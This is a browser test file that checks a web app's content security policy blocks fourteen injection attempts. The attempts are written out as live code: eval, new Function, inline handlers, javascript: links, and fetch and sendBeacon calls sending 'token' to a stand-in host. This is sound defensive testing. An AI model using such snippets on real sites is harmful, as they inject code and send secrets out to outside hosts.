import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { expect, serverTest, test, type Opened } from '../support/fixtures'
import { builtFiles } from '../support/servers'
import { allAnswered } from '../support/in-flight'
import { dealTab, messageMenu } from '../delivery/starts'

/** All other tests in the browser fail on a violation too: the browser calls each an error of the page. */
const told = [/Content Security Policy/, /TrustedHTML|TrustedScript/, /net::ERR|Failed to load/]

const views = [
  ['share', messageMenu, 'Share message'],
  ['operator', dealTab, 'Open Channel chats'],
  ['home', { placement: 'DEFAULT', options: [], user: 1 }, 'Relay'],
  ['install', { placement: 'DEFAULT', options: [], user: 1, install: true }, /^Install/]
] as const

/** What is tried, and which directives or errors may stop it. */
const attempts: [what: string, by: string[]][] = [
  ['markup from a text', ['require-trusted-types-for', 'TypeError']],
  ['code from a text', ['require-trusted-types-for', 'script-src', 'EvalError']],
  ['a function from a text', ['require-trusted-types-for', 'script-src', 'EvalError']],
  ['a handler in an attribute', ['require-trusted-types-for', 'script-src-attr', 'TypeError']],
  ['a link to javascript:', ['script-src-elem']],
  ['a script of another host', ['require-trusted-types-for', 'TypeError']],
  ['a style element', ['style-src-elem']],
  ['a style attribute', ['style-src-attr']],
  ['a picture of another host', ['img-src']],
  ['a request to another host', ['connect-src', 'TypeError']],
  ['a beacon to another host', ['connect-src']],
  ['a frame', ['frame-src']],
  ['a form', ['form-action']],
  ['another base', ['base-uri']]
]

/** Runs one attempt in the app's frame and gives what the browser said against it: directives, and kinds of errors. */
function attempt({ app }: Opened, source: string): Promise<string[]> {
  return app.locator('body').evaluate(async (_, code) => {
    const said: string[] = []
    const note = (event: SecurityPolicyViolationEvent) => said.push(event.effectiveDirective)
    document.addEventListener('securitypolicyviolation', note)
    const attempts: Record<string, () => unknown> = {
      // eslint-disable-next-line no-restricted-properties -- the policy stops it
      'markup from a text': () => { document.createElement('div').innerHTML = '<b>x</b>' },
      // eslint-disable-next-line no-eval -- the policy stops it
      'code from a text': () => { (0, globalThis.eval)('window.hit = 1') },
      'a function from a text': () => new Function('window.hit = 1')(),
      'a handler in an attribute': () => {
        const button = document.createElement('button')
        button.setAttribute('onclick', 'window.hit = 1')
        document.body.append(button)
        button.click()
      },
      'a link to javascript:': () => {
        const link = Object.assign(document.createElement('a'), { href: 'javascript:window.hit = 1' })
        document.body.append(link)
        link.click()
      },
      'a script of another host': () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/x.js' })) },
      'a style element': () => { document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' })) },
      'a style attribute': () => { document.body.setAttribute('style', 'color: red') },
      'a picture of another host': () => { document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/x.png' })) },
      'a request to another host': () => fetch('https://elsewhere.example/x', { method: 'POST', body: 'token' }),
      'a beacon to another host': () => navigator.sendBeacon('https://elsewhere.example/x', 'token'),
      'a frame': () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' })) },
      'a form': () => {
        const form = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/', method: 'POST' })
        document.body.append(form)
        form.submit()
      },
      'another base': () => { document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })) }
    }
    // The test's own call may make code of texts until here.
    await new Promise(resolve => setTimeout(resolve))
    try {
      await attempts[code]!()
    } catch (error) {
      said.push((error as Error).name)
    }
    for (let wait = 0; wait < 50 && said.length === 0; wait++) await new Promise(resolve => setTimeout(resolve, 20))
    document.removeEventListener('securitypolicyviolation', note)
    return (window as { hit?: number }).hit === undefined ? said : ['it ran']
  }, source)
}

test.describe('the content security policy in the page', () => {
  test('lets each view do all that it does', async ({ page, openPlacement, emulator }) => {
    for (const [name, placement, heading] of views) {
      await test.step(name, async () => {
        if (name === 'install') await emulator.reset('bare')
        const { app } = await openPlacement(placement)
        await expect(app.getByRole('heading', { level: 1, name: heading })).toBeVisible()
        await expect(app.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(2)
        await allAnswered(page)
      })
    }
  })

  serverTest('is in both pages, and says nothing of what it forbids but the styles and the script that it knows', () => {
    for (const page of ['index.html', 'install.html']) {
      const html = readFileSync(path.join(builtFiles, page), 'utf8')
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1] ?? ''
      expect(html.indexOf(policy)).toBeLessThan(html.search(/<(script|style|link)/))
      expect(policy).not.toMatch(/unsafe|\*/)
      expect(policy).toMatch(/script-src 'self' 'sha256-[^' ]+';/)
      for (const [, , text = ''] of html.matchAll(/<(style|script)>(.*?)<\/\1>/gs)) {
        expect(policy).toContain(createHash('sha256').update(text).digest('base64'))
      }
      expect(html.replaceAll(/<script>.*?<\/script>/gs, '')).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+=|\sstyle=/)
    }
  })

  test('stops whatever a text could become', async ({ openPlacement, allowed }) => {
    allowed.push(...told)
    const opened = await openPlacement(messageMenu)
    await expect(opened.app.getByRole('heading', { level: 1 })).toBeVisible()
    for (const [what, by] of attempts) {
      const said = await attempt(opened, what)
      expect.soft(said.filter(one => !by.includes(one)), what).toEqual([])
      expect.soft(said, what).not.toEqual([])
    }
  })
})
